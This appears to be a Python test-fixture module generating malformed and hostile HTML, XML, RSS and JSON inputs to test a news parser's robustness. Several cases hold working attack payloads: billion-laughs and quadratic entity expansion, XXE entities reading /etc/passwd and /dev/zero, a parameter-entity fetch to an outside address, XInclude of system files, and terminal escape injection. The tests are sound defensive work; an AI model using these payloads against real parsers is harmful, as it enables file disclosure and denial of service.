"""Pages and documents of markup: depth, attributes, references, entities, and what they fetch."""

from made import Case, page


def cases(rng):
    yield from pages()
    yield from told_wrong()
    yield from documents()
    yield from lists()


def pages():
    def html(name, body="", *expect, about, head="", checks=("linear",), rss_mb=64):
        return Case(name, name + ".html", page(name.replace("-", ""), head, body),
                    *(expect or ("ingest 1",)), about=about, checks=checks, seconds=5,
                    rss_mb=rss_mb)

    yield html("html-deep", "<div>" * 60_000, about="60,000 elements within each other")
    yield html("html-deep-mixed", "<div><b><p><table><td><a>" * 8_000, about="of all kinds")
    yield html("html-open", "".join(f"<b id=a{i}>" for i in range(20_000)),
               about="20,000 formatting elements left open")
    yield html("html-agency", "<p><a href=x><b><i>y</a></p>" * 12_000,
               about="the adoption agency, 12,000 times")
    yield html("html-agency-deep", "<a><b><div>" * 3_000 + "</a></b>" * 3_000,
               about="the adoption agency over depth")
    yield html("html-foster", "<table><tr>x<td>" * 6_000, about="text put before its table")
    yield html("html-templates", "<template><tr><td>" * 8_000, about="templates in each other")
    yield html("html-foreign", "<svg><math><mi><foreignObject><p>" * 4_000,
               about="pictures, formulas and pages in each other")
    yield html("html-attributes", "<p " + " ".join(f"a{i}=1" for i in range(50_000)) + ">",
               about="50,000 attributes of one element")
    yield html("html-attributes-same", "<p " + "a=1 " * 60_000 + ">", about="one, 60,000 times")
    yield html("html-attribute-long", f"<img alt='{'z' * 600_000}'>", about="one of 600,000 bytes")
    yield html("html-references", "&amp" * 60_000 + "&#x110000;&#xD800;&#99999999999999999999;",
               about="references without ends, and beyond all letters")
    yield html("html-reference-long", "&" + "notin" * 50_000 + ";", about="a name of 250,000")
    yield html("html-comments", "<!--" * 60_000, about="comments that open")
    yield html("html-comment-ends", "<!--" + "--!" * 80_000, about="comments that do not end")
    yield html("html-lt", "<" * 150_000, about="150,000 tags that are none")
    yield html("html-slashes", "</" * 100_000, about="100,000 ends of nothing")
    yield html("html-script", "<script><!--<script>" * 15_000, about="scripts in comments")
    yield html("html-select", "<select><option><select>" * 15_000, about="choices in each other")
    yield html("html-nul", "<p>a\x00b</p><\x00p>" * 5_000, "ingest 1",
               "quarantine type-mismatch", about="zero bytes in tags and text")
    yield html("html-classes", "<div class='" + "article-body " * 30_000 + "'>x</div>",
               about="30,000 classes of one element")
    yield html("html-lists", "<ul><li>" * 20_000, about="lists within each other")
    yield html("html-data", f"<img src='data:image/png;base64,{'QUFB' * 60_000}'>",
               about="a picture within the page", checks=["notext:QUFBQUFB"])
    yield html("html-ld-deep", head="<script type='application/ld+json'>"
               + '{"a":[' * 50_000 + "</script>", about="JSON-LD 100,000 deep")
    yield html("html-ld-odd", head="<script type='application/ld+json'>"
               '{"@type":"NewsArticle","headline":["\\ud800",{"x":1}],"headline":7,'
               '"datePublished":"9999999-99-99","author":[[[{"name":{}}]]]}</script>',
               about="JSON-LD of odd types", checks=[])
    yield html("html-net", "<img src=http://192.0.2.1/a><iframe src=file:///etc/passwd></iframe>"
               "<object data=file:///etc/passwd></object><script src=//192.0.2.1/x></script>",
               head="<link rel=stylesheet href=http://192.0.2.1/b><base href=http://192.0.2.1/>",
               about="what would have to be fetched", checks=["notext:root:x:0"])
    yield html("html-steering", "<p>&#27;[2J&#155;31m&#x202e;turned\x1b]0;x\x07</p>",
               about="escapes of a terminal by reference", checks=["noescape"])


def told_wrong():
    def html(name, data, *expect, about, checks=()):
        return Case(name, name + ".html", data, *(expect or ("ingest 1",)), about=about,
                    checks=checks)

    curly = page("saysutf", '<meta charset="utf-8">').decode().replace('"We', "“We")
    yield html("charset-lie", curly.encode("cp1252"), about="says UTF-8, is windows-1252",
               checks=["text:“We", "warn:encoding"])
    yield html("charset-lie-back", curly.replace("saysutf", "saysother").replace(
        "utf-8", "windows-1252").encode(), about="says windows-1252, is UTF-8",
        checks=["text:“We"])
    yield html("charset-unknown", page("klingon", '<meta charset="x-klingon">'),
               about="a label that is none")
    yield html("charset-utf7", page("seven", '<meta charset="utf-7">',
                                    "<p>+ADw-script+AD4-alert(1)</p>"),
               about="UTF-7 is not read", checks=["notext:<script>"])
    yield html("charset-utf16", page("sixteen", '<meta charset="utf-16">'),
               about="says UTF-16, is ASCII")
    yield html("charset-iso2022kr", page("korean", '<meta charset="iso-2022-kr">', "\x0e!!\x0f"),
               "ingest 1", "quarantine encoding", about="an encoding that the standard replaces")
    yield html("charset-many", page("many", '<meta charset="utf-8">' * 2_000
                                    + '<meta charset="koi8-r">'), about="2,000 labels")
    yield html("html-cut", page("cutpage")[:-60], about="cut within a tag")
    yield html("html-empty", b"<html></html>", "quarantine no-article", about="no content")
    yield html("html-comment-all", page("gone").replace(b"<body>", b"<body><!--"),
               "quarantine no-article", "ingest 1", about="a comment that swallows the page")


NITF = """<?xml version="1.0" encoding="UTF-8"?>{dtd}<nitf><head><title>{title}</title><docdata>
<date.issue norm="20150304T073300Z"/></docdata></head><body><body.head><hedline><hl1>{title}</hl1>
</hedline><byline>By Ada Quill</byline></body.head><body.content><p>The council met on Tuesday.</p>
<p>{text}</p></body.content></body></nitf>"""


def documents():
    def xml(name, text="The work is to cost four million crowns.", *expect, about, dtd="",
            checks=(), title=None, rss_mb=64):
        data = NITF.format(dtd=dtd, text=text, title=title or "Council Weighs " + name)
        return Case(name, name + ".xml", data.encode(), *(expect or ("ingest 1",)), about=about,
                    checks=checks, seconds=5, rss_mb=rss_mb)

    kept = ("ingest 1", "quarantine external-entity")
    laughs = "<!DOCTYPE nitf [<!ENTITY a0 'ha'>" + "".join(
        f"<!ENTITY a{i} '{f'&a{i - 1};' * 10}'>" for i in range(1, 12)) + "]>"
    yield xml("xml-laughs", "&a11;", "quarantine expansion", about="a billion laughs", dtd=laughs)
    yield xml("xml-quadratic", "&a;" * 40_000, "quarantine expansion", "ingest 1",
              about="one long entity, 40,000 times", checks=["linear"],
              dtd=f"<!DOCTYPE nitf [<!ENTITY a '{'x' * 40_000}'>]>")
    yield xml("xml-circle", "&a;", "quarantine expansion", "quarantine malformed",
              about="entities made of each other",
              dtd="<!DOCTYPE nitf [<!ENTITY a '&b;'><!ENTITY b '&a;'>]>")
    yield xml("xml-outside", "&x;", *kept, about="an entity that is a file",
              dtd="<!DOCTYPE nitf [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
              checks=["notext:root:x:0"])
    yield xml("xml-network", "&x;", *kept, about="an entity that is an address",
              dtd="<!DOCTYPE nitf [<!ENTITY x SYSTEM 'http://192.0.2.1/x'>]>")
    yield xml("xml-parameter", "&x;", *kept, about="entities of parameters that send a file",
              dtd="<!DOCTYPE nitf [<!ENTITY % f SYSTEM 'file:///etc/hostname'><!ENTITY % d SYSTEM "
              "'http://192.0.2.1/d'>%d;]>")
    yield xml("xml-device", "&x;", *kept, about="an entity without an end",
              dtd="<!DOCTYPE nitf [<!ENTITY x SYSTEM '/dev/zero'>]>")
    yield xml("xml-dtd", about="the usual type, elsewhere", dtd="<!DOCTYPE nitf PUBLIC "
              "'-//IPTC//DTD NITF 3.5//EN' 'http://192.0.2.1/nitf.dtd'>")
    yield xml("xml-include", "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' "
              "href='file:///etc/passwd' parse='text'/>", about="XInclude",
              checks=["notext:root:x:0"])
    yield xml("xml-sheet", about="a style sheet that would be run",
              dtd="<?xml-stylesheet type='text/xsl' href='http://192.0.2.1/x.xsl'?>")
    yield xml("xml-attributes", "<em " + " ".join(f"a{i}='1'" for i in range(20_000)) + "/>",
              "ingest 1", "quarantine malformed", about="20,000 attributes", checks=["linear"])
    yield xml("xml-names", "".join(f"<x xmlns:n{i}='u{i}'>" for i in range(250)), "ingest 1",
              "quarantine nesting", about="namespaces within each other", checks=["linear"])
    yield xml("xml-deep", "<em>" * 60_000, "quarantine nesting", "ingest 1",
              about="60,000 elements within each other")
    yield xml("xml-stray", "</q>" * 60_000, about="ends of nothing", checks=["linear"])
    yield xml("xml-cdata", "<![CDATA[" + "]]" * 60_000, "ingest 1", "quarantine malformed",
              "ingest 0", about="a section that does not end", checks=["linear"])
    yield xml("xml-controls", "bad \x0b\x01 &#11; control", "ingest 1", "quarantine malformed",
              about="letters that XML forbids")
    yield xml("xml-steering", "&#27;[2J &#155;31m &#x202e;turned", about="escapes by reference",
              checks=["noescape"])


def lists():
    item = "<item><title>Council Weighs {0}</title><description>{1}</description></item>"
    words = "The council met on Tuesday to talk about a bridge that nobody has crossed since " * 3
    feed = "<?xml version='1.0'?><rss version='2.0'><channel><title>The Harlow Courier</title>"
    many = "".join(item.format(f"Bridge {i}", words + str(i)) for i in range(200))
    end = "</channel></rss>"
    yield Case("feed-many", "feed-many.xml", (feed + many + end).encode(), "ingest 200",
               about="200 items")
    yield Case("feed-head", "feed-head.xml", (
        feed + "<x>" + "y" * 300_000 + "</x>" + many.replace("Bridge", "Ferry") + end).encode(),
        "ingest 200", about="a head that each item would repeat", checks=["linear"], seconds=5)
    yield Case("feed-other", "feed-other.xml", b"<?xml version='1.0'?><recipe><egg/></recipe>",
               "quarantine unsupported", about="XML of another trade")
    yield Case("json-deep", "json-deep.json", b'{"headline":' + b"[" * 200_000,
               "quarantine malformed", "quarantine no-article", "quarantine nesting",
               "quarantine unsupported", "ingest 0 malformed", about="JSON 200,000 deep")
    yield Case("json-number", "json-number.json", b'{"uri":"u","headline":"A","versioncreated":'
               + b"9" * 200_000 + b'}', "quarantine malformed", "quarantine no-article",
               "quarantine unsupported", "ingest 0", about="a number of 200,000 digits")
